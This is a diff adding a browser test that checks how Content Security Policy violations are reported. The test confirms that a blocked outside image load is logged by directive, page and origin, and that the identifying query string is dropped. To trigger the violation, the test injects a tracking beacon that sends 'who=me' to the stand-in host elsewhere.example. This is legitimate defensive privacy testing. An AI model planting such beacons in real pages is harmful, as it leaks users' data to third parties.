@@ -165,3 +165,20 @@ test('the share dialog has the address as a picture', async () => {
   );
   expect(complaints()).toEqual([]);
 });
+
+test('what a page is kept from doing is reported, without who was kept from it', async () => {
+  await visit('/de/uferzonen?von=mir');
+  await page.evaluate(() => {
+    new Image().src = 'https://elsewhere.example/spy.png?who=me';
+  });
+  const reports = () =>
+    site.logged().filter(({ msg }) => msg === 'The security policy was violated');
+  await settled(() => reports().length > 0);
+  expect(reports()).toEqual([
+    expect.objectContaining({
+      directive: 'img-src',
+      page: '/de/uferzonen',
+      blocked: 'https://elsewhere.example',
+    }),
+  ]);
+});
